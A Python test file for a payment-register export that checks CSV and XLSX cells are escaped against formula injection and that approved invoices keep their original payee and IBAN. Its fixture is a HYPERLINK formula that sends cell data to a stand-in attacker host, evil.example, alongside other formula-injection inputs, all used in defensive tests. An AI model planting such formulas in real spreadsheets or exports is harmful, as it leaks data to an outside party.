"""The payment register is safe to open in a spreadsheet and pays whom the invoice was
approved for: a text cell never becomes a formula, and a provider's later change of name
or IBAN does not change an approved invoice's payee."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

from openpyxl import load_workbook
from pypdf import PdfReader

from core.db.market import Invoice
from core.db.tables import Provider
from core.platform import Platform, decode
from core.workflow.market.papers import RegisterRow, register_csv, register_xlsx
from tests.market.flow import (
    awarded_contract,
    delivery_period,
    homeless_person,
    nights,
    ok,
    served_request,
)
from tests.world import IBAN2, World

EVIL = '=HYPERLINK("http://evil.example/?x="&E2,"Pay here")'


def _row(payee: str, **kw: Any) -> RegisterRow:
    base: dict[str, Any] = {
        "kind": "invoice",
        "document": "2026-000001",
        "payee": payee,
        "payee_code": "37993783",
        "iban": "UA213223130000026007233566001",
        "amount": Decimal("1250.50"),
        "purpose": "Оплата",
        "programme_code": "0813241",
        "economic_code": "2240",
        "status": "approved",
        "paid_on": None,
    }
    base.update(kw)
    return RegisterRow(**base)


def test_text_cells_that_start_a_formula_are_neutralised() -> None:
    starts = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
    rows = [_row(payee) for payee in starts] + [_row("ГО «Дах»", purpose="=1+1")]
    text = register_csv(rows).decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert [r[2] for r in table[1:7]] == ["'" + p for p in starts]
    assert table[7][2] == "ГО «Дах»"
    assert table[7][6] == "'=1+1"
    assert table[1][5] == "1250.50"  # amounts stay numbers
    assert table[-1][5] == f"{Decimal('1250.50') * 7:.2f}"

    sheet = load_workbook(io.BytesIO(register_xlsx(rows, "2026-01"))).active
    assert sheet is not None
    for n, payee in enumerate(starts, start=2):
        cell = sheet.cell(row=n, column=3)
        assert cell.data_type == "s"
        assert str(cell.value).startswith("'")
        assert str(cell.value)[1:].strip() == payee.strip()  # XML reads CR back as LF
    assert sheet.cell(row=8, column=7).value == "'=1+1"
    amount = sheet.cell(row=2, column=6)
    assert amount.data_type == "n"
    assert amount.value == 1250.5
    total = sheet.cell(row=sheet.max_row, column=6)
    assert total.data_type == "n"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row if cell.value)


async def _approved_invoice(w: World, platform: Platform) -> tuple[dict[str, Any], dict[str, Any]]:
    contract = await awarded_contract(w)
    await homeless_person(w)
    req = await served_request(w, platform, contract["id"])
    night = nights()[0]
    await ok(
        await w.post(
            "provider",
            "/api/deliveries",
            {
                "request_id": req["id"],
                "delivered_on": night.isoformat(),
                "idempotency_key": "n0",
                "data": {"night": night.isoformat()},
            },
        ),
        201,
    )
    invoice = (
        await ok(await w.post("provider", "/api/invoices/run", {"period": delivery_period()}), 201)
    )[0]
    await ok(await w.post("provider", f"/api/invoices/{invoice['id']}/submit"))
    # The provider's name at approval is a formula.
    await Provider.update({Provider.name: EVIL}).where(Provider.id == w.provider_id)
    approved = await ok(await w.post("accountant", f"/api/invoices/{invoice['id']}/approve"))
    return contract, approved


async def test_the_register_and_the_pdfs_show_the_payee_frozen_at_approval(
    world: World, platform: Platform
) -> None:
    w = world
    _, invoice = await _approved_invoice(w, platform)
    frozen = await Invoice.select(Invoice.payee).where(Invoice.id == invoice["id"])
    assert decode(frozen[0]["payee"], {})["name"] == EVIL
    # After approval the provider renames itself and changes its IBAN.
    await Provider.update({Provider.name: "ТОВ «Інший»", Provider.iban: IBAN2}).where(
        Provider.id == w.provider_id
    )
    params = {"period": delivery_period()}
    listed = await ok(await w.get("accountant", "/api/registers/payments", params=params))
    mine = next(r for r in listed if r["document"] == invoice["number"])
    assert mine["payee"] == EVIL
    assert mine["iban"] != IBAN2

    csv_answer = await w.get(
        "accountant", "/api/registers/payments", params={**params, "format": "csv"}
    )
    table = list(csv.reader(io.StringIO(csv_answer.content.decode("utf-8-sig")), delimiter=";"))
    row = next(r for r in table if r[1] == invoice["number"])
    assert row[2] == "'" + EVIL
    assert row[4] == mine["iban"]

    xlsx = await w.get("accountant", "/api/registers/payments", params={**params, "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet is not None
    found = [r for r in sheet.iter_rows() if r[1].value == invoice["number"]]
    assert found[0][2].value == "'" + EVIL
    assert found[0][2].data_type == "s"
    assert found[0][5].data_type == "n"

    pdf = await w.get("accountant", f"/api/invoices/{invoice['id']}/invoice.pdf")
    text = PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text()
    assert "HYPERLINK" in text
    assert "Інший" not in text
    assert (await ok(await w.get("accountant", f"/api/invoices/{invoice['id']}")))[
        "provider_name"
    ] == EVIL
